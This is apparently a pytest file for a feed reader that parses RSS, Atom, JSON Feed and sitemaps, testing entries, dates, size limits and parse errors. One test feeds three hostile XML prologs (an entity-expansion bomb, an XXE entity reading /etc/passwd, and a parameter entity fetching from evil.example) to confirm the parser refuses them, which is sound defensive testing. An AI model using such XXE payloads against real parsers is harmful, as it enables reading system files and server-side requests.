"""Feeds, JSON Feeds and sitemaps."""

from datetime import UTC, date, datetime

import pytest

from monitor.core import readers
from monitor.core.model import Page, Source
from monitor.errors import FetchError

URL = "https://metro.example/feed"


def read(text: str, media_type: str = "application/rss+xml", kind: str = "feed") -> Page:
    return readers.read(text.encode(), media_type, URL, Source("s", URL, kind=kind))


def rss(items: str, prolog: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<rss version="2.0"><channel><title>Metro</title><language>en</language>{items}</channel></rss>'


ITEM = (
    "<item><title>Line 4 &amp; 5</title><link>/news/4</link><pubDate>Wed, 12 Mar 2025 08:00:00 GMT</pubDate>"
    "<description><![CDATA[<p>It costs <b>EUR 5m</b>.</p><ul><li>Lyon</li></ul>]]></description></item>"
)


def test_entries_have_their_text_address_and_day() -> None:
    page = read(rss(ITEM))
    (entry,) = page.entries
    assert (entry.url, entry.title, entry.published_on) == ("https://metro.example/news/4", "Line 4 & 5", date(2025, 3, 12))
    assert page.text[entry.start : entry.end] == "Line 4 & 5\nIt costs EUR 5m.\nLyon"
    assert page.passages[2].headings == ("Line 4 & 5",)


def test_atom_and_json_feeds_are_feeds() -> None:
    atom = '<feed xmlns="http://www.w3.org/2005/Atom"><title>M</title><entry><title>A</title><link href="https://m.example/a"/><updated>2025-03-12T08:00:00Z</updated></entry></feed>'
    json = '{"version":"https://jsonfeed.org/version/1.1","title":"M","items":[{"id":"1","url":"https://m.example/a","title":"A","content_html":"<p>x</p>","date_published":"2025-03-12"}]}'
    assert [e.url for e in read(atom, "text/xml").entries] == ["https://m.example/a"]
    assert read(json, "application/json").entries[0].published_on == date(2025, 3, 12)


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>',
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>',
    ],
)
def test_entities_are_refused(prolog: str) -> None:
    with pytest.raises(FetchError, match="entities"):
        read(rss(ITEM, prolog))


def test_cut_feed_is_a_parse_error() -> None:
    with pytest.raises(FetchError) as caught:
        read(rss(ITEM * 3)[:-60])
    assert caught.value.status == "parse_error"


@pytest.mark.parametrize("moment", ["Wed, 12 Mar 0000 08:00:00 GMT", "Wed, 12 Mar 9999 08:00:00 GMT", "soon", ""])
def test_impossible_entry_dates_are_no_dates(moment: str) -> None:
    assert read(rss(f"<item><title>A</title><pubDate>{moment}</pubDate></item>")).entries[0].published_on is None


def test_very_long_feeds_are_cut_with_a_problem() -> None:
    page = read(rss("<item><title>A</title></item>" * 1200))
    assert len(page.entries) == 1000
    assert "1200 entries" in str(page.problems[0])


def test_html_instead_of_a_feed_is_unsupported() -> None:
    with pytest.raises(FetchError, match="expected a feed, got an HTML page"):
        read("<!doctype html><p>Moved</p>", "text/html")


def test_sitemap_gives_addresses_with_their_last_change() -> None:
    page = read(
        '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://m.example/a</loc><lastmod>2025-03-12</lastmod></url>'
        "<url><loc>ftp://m.example/b</loc></url></urlset>",
        "application/xml",
        kind="sitemap",
    )
    assert [(e.url, e.modified_at) for e in page.entries] == [("https://m.example/a", datetime(2025, 3, 12, tzinfo=UTC))]


def test_damaged_sitemap_is_a_parse_error() -> None:
    with pytest.raises(FetchError) as caught:
        read("<urlset><url><loc>https://m.example/a</loc>", "application/xml", kind="sitemap")
    assert caught.value.status == "parse_error"
